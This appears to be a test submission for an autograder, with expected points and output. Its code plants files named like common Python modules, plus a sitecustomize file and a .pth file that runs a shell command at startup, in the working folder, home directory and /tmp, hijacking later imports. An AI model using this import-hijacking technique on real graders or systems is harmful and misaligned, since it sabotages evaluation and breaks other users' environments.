"""Leaves files named like modules of the grader in its folder, for whoever imports next.

Must: nobody imports from there but itself; the right function counts.
"""
# points: 5
# reason: All right
# says: planted

# %%
import os
import pathlib

for folder in (".", os.path.expanduser("~"), "/tmp"):
    for name in ("torch", "helpers", "autograde", "sitecustomize", "usercustomize", "json", "numpy", "nbformat"):
        pathlib.Path(folder, f"{name}.py").write_text("raise SystemExit('pwned')")
    pathlib.Path(folder, "pwned.pth").write_text("import os; os.system('touch pwned')")
    pathlib.Path(folder, "ipython_config.py").write_text("raise SystemExit('pwned')")
print("planted")
